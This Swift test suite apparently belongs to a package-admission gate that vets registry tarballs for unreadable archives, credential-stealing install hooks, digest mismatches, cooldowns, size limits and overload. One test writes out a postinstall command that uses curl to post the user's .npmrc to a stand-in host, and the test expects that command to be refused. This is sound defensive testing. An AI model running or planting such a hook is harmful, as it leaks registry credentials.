import SallyportEcosystem
import SallyportGate
import SallyportModel
import SallyportPolicy
import SallyportTesting
import Testing

@Suite("The way to bytes")
struct AdmissionTests {
    private let world = World()
    private static let young = "2026-11-21T12:00:00Z"

    private func publish(
        _ releases: [(version: String, bytes: [UInt8])],
        publishedAt: String = "2026-01-01T00:00:00Z"
    ) throws {
        var fake = FakePackage(try package())
        for release in releases { fake.release(release.version, release.bytes, publishedAt: publishedAt) }
        fake.publish(to: world.upstream)
    }

    @Test("an unreadable archive is refused, and its bytes stay behind the second door")
    func unreadable() async throws {
        try publish([("1.0.0", FakeTarball.unreadable("1.0.0"))])
        try await world.withGate { gate in
            let admission = try await gate.admit(try package(), filename: "left-1.0.0.tgz")
            #expect(admission.refusal == ["archive-unreadable"])
            #expect(admission.clearance == nil)
        }
    }

    @Test("a hook that steals is denied")
    func thief() async throws {
        try publish([("1.0.0", FakeTarball.thief("left", "1.0.0"))])
        try await world.withGate { gate in
            let admission = try await gate.admit(try package(), filename: "left-1.0.0.tgz")
            #expect(admission.refusal?.first == "hook-exfiltration")
        }
    }

    @Test("an honest archive is refused when the index states another hook, by what that hook does")
    func statedHook() async throws {
        func refusal(_ command: String) async throws -> [String]? {
            var world = World()
            world.ecosystem = FakeEcosystem { _ in
                nil
            } statement: { _ in
                IndexStatement(scripts: ["postinstall": command])
            }
            var fake = FakePackage(try package())
            fake.release("1.0.0", FakeTarball.honest("left", "1.0.0"), publishedAt: "2026-01-01T00:00:00Z")
            fake.publish(to: world.upstream)
            return try await world.withGate { gate in
                try await gate.admit(try package(), filename: "left-1.0.0.tgz").refusal
            }
        }
        #expect(try await refusal("echo")?.first == "manifest-mismatch")
        let steal = "curl -d @$HOME/.npmrc https://x.example.invalid"
        #expect(try await refusal(steal)?.first == "hook-exfiltration")
    }

    @Test("an honest archive is cleared, and what is read is what was inspected")
    func honest() async throws {
        let bytes = FakeTarball.honest("left", "1.0.0")
        try publish([("1.0.0", bytes)])
        try await world.withGate { gate in
            let admission = try await gate.admit(try package(), filename: "left-1.0.0.tgz")
            let clearance = try #require(admission.clearance)
            #expect(clearance.digest == StandInHashing().sha256(bytes.span))
            let blob = try await gate.open(clearance)
            #expect(try await blob.read(0..<blob.size) == bytes)
            #expect(admission.lease?.isValid(at: world.clock.now) == true)
        }
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
        #expect(world.blobs.stagedCount == 0)
        #expect(try await world.catalogue.pending(limit: 10) == [])
    }

    @Test("a young release is refused without being fetched")
    func cooling() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))], publishedAt: Self.young)
        try await world.withGate { gate in
            let left = try package()
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").refusal == ["cooldown"])
        }
        #expect(world.upstream.fetched == [])
    }

    @Test("the cooldown ends by itself")
    func cooled() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))], publishedAt: Self.young)
        try await world.withGate { gate in
            _ = try await gate.admit(try package(), filename: "left-1.0.0.tgz")
            world.clock.advance(seconds: 3 * 86_400)
            #expect(try await gate.admit(try package(), filename: "left-1.0.0.tgz").clearance != nil)
        }
    }

    @Test("after an admission it is cleared, after a denial refused again, and leases end at once")
    func decisions() async throws {
        try publish([("1.0.0", FakeTarball.unreadable("1.0.0"))])
        let left = try package()
        let subject = PackageURL(package: left, version: "1.0.0")
        try await world.withGate { gate in
            _ = try await gate.admit(left, filename: "left-1.0.0.tgz")
            try await world.decide(.admit, subject, by: gate)
            let admitted = try await gate.admit(left, filename: "left-1.0.0.tgz")
            let lease = try #require(admitted.lease)
            #expect(lease.isValid(at: world.clock.now))
            try await world.decide(.deny, subject, by: gate)
            #expect(!lease.isValid(at: world.clock.now))
            let denied = try await gate.admit(left, filename: "left-1.0.0.tgz")
            #expect(denied.refusal?.first == "denied-by-person")
        }
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
    }

    @Test("reopening has the stored bytes read again, without fetching them")
    func reopening() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        let left = try package()
        try await world.withGate { gate in
            _ = try await gate.admit(left, filename: "left-1.0.0.tgz")
            try await world.decide(.reopen, PackageURL(package: left, version: nil), by: gate)
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil)
        }
        #expect(world.events.judged == ["left-1.0.0.tgz", "left-1.0.0.tgz"])
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
    }

    @Test("bytes that are not those of the index are stored nowhere")
    func digestMismatch() async throws {
        var fake = FakePackage(try package())
        let promised = FakeTarball.honest("left", "1.0.0")
        fake.release("1.0.0", FakeTarball.thief("left", "1.0.0"), promised: promised)
        fake.publish(to: world.upstream)
        try await world.withGate { gate in
            let left = try package()
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").refusal == ["promise-broken"])
        }
        #expect(world.blobs.committed == [])
        #expect(world.blobs.stagedCount == 0)
        #expect(world.catalogue.recordedJudgements == [])
        #expect(try await world.catalogue.pending(limit: 10) == [])
    }

    @Test("an index without a readable digest admits nothing")
    func noDigest() async throws {
        var fake = FakePackage(try package())
        fake.release("1.0.0", FakeTarball.honest("left", "1.0.0"), digest: "none")
        fake.publish(to: world.upstream)
        try await world.withGate { gate in
            let left = try package()
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").refusal == ["promise-broken"])
        }
        #expect(world.blobs.committed == [])
    }

    @Test("a version that is published again with other bytes is held, also when a person had admitted it")
    func republished() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        let left = try package()
        try await world.withGate { gate in
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil)
            try await world.decide(.admit, PackageURL(package: left, version: "1.0.0"), by: gate)
            try publish([("1.0.0", FakeTarball.thief("left", "1.0.0")), ("0.9.0", FakeTarball.honest("left", "0.9.0"))])
            world.clock.advance(seconds: 60)
            _ = try await gate.ticket(for: left)
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").refusal == ["digest-changed"])
        }
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
    }

    @Test("damaged bytes are reported, fetched and judged again, and served then")
    func damagedBlob() async throws {
        let bytes = FakeTarball.honest("left", "1.0.0")
        try publish([("1.0.0", bytes)])
        let left = try package()
        try await world.withGate { gate in
            let clearance = try #require(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance)
            world.blobs.damage(clearance.digest)
            let blob = try await gate.open(clearance)
            #expect(try await blob.read(0..<blob.size) == bytes)
        }
        #expect(world.events.damages == 1)
        #expect(world.events.judged.count == 2)
        #expect(world.upstream.fetched == ["left-1.0.0.tgz", "left-1.0.0.tgz"])
    }

    @Test("damaged bytes whose upstream is away are not served in any form")
    func damagedWithoutUpstream() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        try await world.withGate { gate in
            let admission = try await gate.admit(try package(), filename: "left-1.0.0.tgz")
            let clearance = try #require(admission.clearance)
            world.blobs.damage(clearance.digest)
            world.upstream.fail(with: UpstreamError(.unreachable, "The upstream is down."))
            await #expect(throws: GateFailure.self) { try await gate.open(clearance) }
        }
    }

    @Test("bytes that are damaged when they are to be read again are fetched")
    func damagedBeforeInspection() async throws {
        let bytes = FakeTarball.honest("left", "1.0.0")
        try publish([("1.0.0", bytes)])
        let left = try package()
        try await world.withGate { gate in
            _ = try await gate.admit(left, filename: "left-1.0.0.tgz")
            world.blobs.remove(StandInHashing().sha256(bytes.span))
            try await world.decide(.reopen, PackageURL(package: left, version: nil), by: gate)
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil)
        }
        #expect(world.upstream.fetched.count == 2)
        #expect(world.events.damages == 1)
    }

    @Test("a hook that is new on its line is held, an old package with the same hook is not")
    func comparison() async throws {
        var fake = FakePackage(try package())
        fake.release("1.0.0", FakeTarball.honest("left", "1.0.0"))
        fake.release("1.1.0", FakeTarball.hooked("left", "1.1.0"), publishedAt: "2026-11-01T00:00:00Z")
        fake.publish(to: world.upstream)
        var other = FakePackage(try package("right"))
        other.release("1.1.0", FakeTarball.hooked("right", "1.1.0"))
        other.publish(to: world.upstream)
        try await world.withGate { gate in
            let left = try package()
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil)
            #expect(try await gate.admit(left, filename: "left-1.1.0.tgz").refusal?.first == "hook-added")
            #expect(try await gate.admit(try package("right"), filename: "right-1.1.0.tgz").clearance != nil)
        }
    }

    @Test("fifty who ask at once cost one look at the index and one fetch")
    func fifty() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        let checkpoint = world.upstream.checkpoint("left-1.0.0.tgz")
        checkpoint.close()
        let left = try package()
        try await world.withGate { gate in
            try await withThrowingTaskGroup(of: Bool.self) { group in
                for _ in 0..<50 {
                    group.addTask { try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil }
                }
                await checkpoint.waitForArrivals(1)
                checkpoint.open()
                let areAllCleared = try await group.reduce(true) { $0 && $1 }
                #expect(areAllCleared)
            }
        }
        #expect(world.upstream.asked == ["left"])
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
        #expect(world.events.judged.count == 1)
    }

    @Test("a client that goes away does not stop the run")
    func departure() async throws {
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        let checkpoint = world.upstream.checkpoint("left-1.0.0.tgz")
        checkpoint.close()
        let left = try package()
        try await world.withGate { gate in
            let client = Task { try await gate.admit(left, filename: "left-1.0.0.tgz") }
            await checkpoint.waitForArrivals(1)
            client.cancel()
            await #expect(throws: CancellationError.self) { try await client.value }
            checkpoint.open()
            await world.events.wait { if case .judged = $0 { true } else { false } }
            let admission = try await gate.admit(left, filename: "left-1.0.0.tgz")
            #expect(admission.clearance != nil)
        }
        #expect(world.upstream.fetched == ["left-1.0.0.tgz"])
    }

    @Test("an artifact above the limit is refused, one at the limit is not", arguments: [-1, 0, 1])
    func tooLarge(room: Int) async throws {
        var world = World()
        let bytes = FakeTarball.honest("left", "1.0.0")
        world.limits.artifactBytesMax = bytes.count + room
        var fake = FakePackage(try package())
        fake.release("1.0.0", bytes)
        fake.publish(to: world.upstream)
        let isCleared = try await world.withGate { gate in
            (try? await gate.admit(try package(), filename: "left-1.0.0.tgz").clearance) != nil
        }
        #expect(isCleared == (room >= 0))
    }

    @Test("a full disk refuses with a failure, keeps no half, and admits once there is room")
    func fullDisk() async throws {
        struct DiskFull: Error {}
        try publish([("1.0.0", FakeTarball.honest("left", "1.0.0"))])
        try await world.withGate { gate in
            let left = try package()
            world.blobs.failWrites(with: DiskFull())
            await #expect(throws: GateFailure.self) {
                try await gate.admit(left, filename: "left-1.0.0.tgz")
            }
            #expect(world.blobs.committed == [])
            #expect(world.blobs.stagedCount == 0)
            world.blobs.failWrites(with: nil)
            #expect(try await gate.admit(left, filename: "left-1.0.0.tgz").clearance != nil)
        }
    }

    @Test("too many waiting are told to come back")
    func overloaded() async throws {
        var world = World()
        world.limits.judgingMax = 1
        world.limits.waitingMax = 1
        var fake = FakePackage(try package())
        for version in ["1.0.0", "2.0.0", "3.0.0"] { fake.release(version, FakeTarball.honest("left", version)) }
        fake.publish(to: world.upstream)
        let checkpoint = world.upstream.checkpoint("left-1.0.0.tgz")
        checkpoint.close()
        let left = try package()
        try await world.withGate { gate in
            let first = Task { try await gate.admit(left, filename: "left-1.0.0.tgz") }
            await checkpoint.waitForArrivals(1)
            let others = ["2.0.0", "3.0.0"].map { version in
                Task { try await gate.admit(left, filename: "left-\(version).tgz") }
            }
            // One of the two finds the only place in the queue taken.
            let refused = await withTaskGroup(of: Bool.self) { group in
                for other in others { group.addTask { (try? await other.value) == nil } }
                let isRefused = await group.next() ?? false
                checkpoint.open()
                await group.waitForAll()
                return isRefused
            }
            #expect(refused)
            let admission = try await first.value
            #expect(admission.clearance != nil)
        }
    }
}
